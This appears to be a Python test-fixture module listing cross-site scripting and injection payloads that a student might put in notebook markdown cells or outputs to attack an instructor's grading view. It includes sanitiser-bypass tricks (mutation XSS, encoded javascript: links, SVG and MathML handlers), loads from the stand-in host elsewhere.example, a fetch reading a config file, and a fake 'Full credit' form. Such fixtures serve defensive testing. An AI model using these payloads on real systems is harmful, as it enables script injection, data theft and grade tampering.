"""What somebody may write into a cell so that it runs, loads or hides something where an instructor opens it.

Each is markdown. What runs says so: it pushes to ``top.ran``. What loads asks ``elsewhere.example``, or the classroom's own server.
"""

from __future__ import annotations

import base64

RUN = "(top.ran=top.ran||[]).push(1)"
READ = "fetch('/files/classroom.toml').then(a=>a.text()).then(t=>{(top.ran=top.ran||[]).push(t)})"
WRITE = (
    "fetch('/api/contents/ran.txt',{method:'PUT',body:JSON.stringify({type:'file',format:'text',content:'x'})});" + RUN
)
AWAY = "http://elsewhere.example"
_SVG = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>'.encode()).decode()
_HTML = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()

MARKDOWN = {
    "script": f"<script>{RUN}</script>",
    "script that reads the seed": f"<script>{READ}</script>",
    "script that writes a file": f"<script>{WRITE}</script>",
    "script in capitals": f"<ScRiPt >{RUN}</sCrIpT>",
    "script from elsewhere": f'<script src="{AWAY}/a.js"></script>',
    "script that is not closed": f"<script>{RUN}//",
    "script split by a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script in a table": f"| a |\n|---|\n| <script>{RUN}</script> |",
    "script in a quotation in a list": f"- > <script>{RUN}</script>",
    "onerror": f'<img src=x onerror="{RUN}">',
    "onerror without quotes": f"<img src=x onerror={RUN}>",
    "onerror behind a slash": f"<img/src=x/onerror={RUN}>",
    "onerror over lines": f'<img\nsrc=x\nonerror\n=\n"{RUN}">',
    "onerror in a link's text": f'[<img src=x onerror="{RUN}">](https://example.org)',
    "onerror in a heading": f'# <img src=x onerror="{RUN}">',
    "onerror in a picture's text": f'![<img src=x onerror="{RUN}">](attachment:a.png)',
    "onerror that breaks out of a title": f"""![a](attachment:a.png '"><img src=x onerror="{RUN}">')""",
    "onerror in an unclosed tag": f'<img src=x onerror="{RUN}"',
    "onload of svg": f'<svg onload="{RUN}"></svg>',
    "animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "svg with a script": f"<svg><script>{RUN}</script></svg>",
    "svg as a picture": f'<img src="data:image/svg+xml;base64,{_SVG}">',
    "use of an svg elsewhere": f'<svg><use href="{AWAY}/a.svg#x"></use></svg>',
    "MathML": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    "MathML link": f'<math href="javascript:{RUN}"><mtext>press</mtext></math>',
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation by template": f"<template><img src=x onerror={RUN}></template>",
    "mutation by form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "body": f"<body onload={RUN}>",
    "details": f'<details open ontoggle="{RUN}">x</details>',
    "focus": f'<input autofocus onfocus="{RUN}">',
    "focus of a paragraph": f'<p tabindex=0 autofocus onfocus="{RUN}">x</p>',
    "animation's end": f'<style>@keyframes k{{}}</style><b style="animation:k 1ms" onanimationend="{RUN}">x</b>',
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "video": f'<video><source onerror="{RUN}"></video>',
    "audio": f'<audio src=x onerror="{RUN}"></audio>',
    "iframe": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "iframe with an address": f'<iframe src="javascript:{RUN}"></iframe>',
    "iframe from elsewhere": f'<iframe src="{AWAY}/frame"></iframe>',
    "object": f'<object data="data:text/html;base64,{_HTML}"></object>',
    "embed": f'<embed src="data:text/html;base64,{_HTML}">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}/gone">',
    "meta refresh to data": f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{_HTML}">',
    "base": f'<base href="{AWAY}/">',
    "link to a style": f'<link rel="stylesheet" href="{AWAY}/a.css">',
    "style from elsewhere": f'<style>@import "{AWAY}/a.css";</style>',
    "style that hides the page": "<style>body{display:none}</style>",
    "background": f'<p style="background:url({AWAY}/p.png)">x</p>',
    "picture over the page": '<div style="position:fixed;inset:0;z-index:9999;background:white">x</div>',
    "form": f'<form action="{AWAY}/"><button>Full credit</button></form>',
    "button with an address": f'<form><button formaction="javascript:{RUN}">x</button></form>',
    "link": f"[press](javascript:{RUN})",
    "link in angles": f"[press](<javascript:{RUN}>)",
    "link with a tab": f"[press](<java\tscript:{RUN}>)",
    "link with entities": f"[press](&#x6a;avascript:{RUN})",
    "link with an entity for the colon": f"[press](javascript&colon;{RUN})",
    "link with a backslash": f"[press](javascript\\:{RUN})",
    "link over lines": f"[press](\njavascript:{RUN})",
    "link by reference": f"[press][there]\n\n[there]: javascript:{RUN}",
    "link by a reference in angles": f"[press][there2]\n\n[there2]:\n<javascript:{RUN}>",
    "link as HTML": f'<a href="javascript:{RUN}">press</a>',
    "link as HTML with entities": f'<a href="&#106;avascript:{RUN}">press</a>',
    "link as HTML with a space": f'<a href=" javascript:{RUN}">press</a>',
    "link to data": f"[press](data:text/html;base64,{_HTML})",
    "autolink": f"<javascript:{RUN}>",
    "link to a page beside the notebook": "[press](evil.html)",
    "link to the server": "[press](/formgrader/manage_students/x)",
    "picture from elsewhere": f"![a]({AWAY}/seen.png)",
    "picture from elsewhere by reference": f"![a][pic]\n\n[pic]: {AWAY}/seen.png",
    "picture from elsewhere as HTML": f'<img src="{AWAY}/seen.png" srcset="{AWAY}/seen2.png 2x">',
    "picture that signs out": "![a](/logout)",
    "mathematics with a link": rf"$\href{{javascript:{RUN}}}{{press}}$",
    "mathematics with a tag": rf"$\text{{<img src=x onerror={RUN}>}}$",
    "mathematics with a tag on a line of its own": f"$$a <img src=x onerror={RUN}> b$$",
    "mathematics that asks for more": rf"$\require{{html}}\style{{background:url({AWAY}/s.png)}}{{x}}$",
    "mathematics with a character": r"$\unicode{x3c}script\unicode{x3e}$",
    "mathematics in an environment": rf"\begin{{align}}a&=<script>{RUN}</script>\end{{align}}",
    "mathematics that grows": r"$\def\a{xx}\def\b{\a\a\a\a}\def\c{\b\b\b\b}\c\c\c\c$",
    "mermaid": f"```mermaid\ngraph TD\nA[<img src=x onerror={RUN}>]\nclick A \"javascript:{RUN}\"\n```",
    "fence with a hostile language": f'```"><img src=x onerror={RUN}>\nx\n```',
    "code that ends": f"`</code><script>{RUN}</script>`",
    "comment": f"<!-- --!><img src=x onerror={RUN}> -->",
    "processing instruction": f"<?xml ><img src=x onerror={RUN}> ?>",
    "CDATA": f"<![CDATA[<img src=x onerror={RUN}>]]>",
    "title and textarea": f"<textarea><title></textarea><img src=x onerror={RUN}></title>",
    "null bytes": f"<scr\x00ipt>{RUN}</scr\x00ipt><img src=x \x00onerror={RUN}>",
    "heading with the id of an exercise": "# check-03-output_size\n\n<p id=check-03-output_size class=score>5</p>",
}  # fmt: skip

#: Outputs of a code cell, as mime bundles.
OUTPUTS = {
    "HTML": {"text/html": f"<script>{RUN}</script><img src=x onerror={RUN}><b>bold</b>"},
    "svg": {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"></svg>'},
    "JavaScript": {"application/javascript": RUN},
    "markdown": {"text/markdown": f"<script>{RUN}</script>"},
    "LaTeX": {"text/latex": rf"$\href{{javascript:{RUN}}}{{x}}$<script>{RUN}</script>"},
    "mermaid": {"text/vnd.mermaid": f"graph TD\nA[<img src=x onerror={RUN}>]"},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2}},
    "a picture that is none": {"image/png": f'x" onerror="{RUN}'},
    "HTML that calls itself a picture": {"image/png": _HTML},
    "pdf": {"application/pdf": _HTML},
}
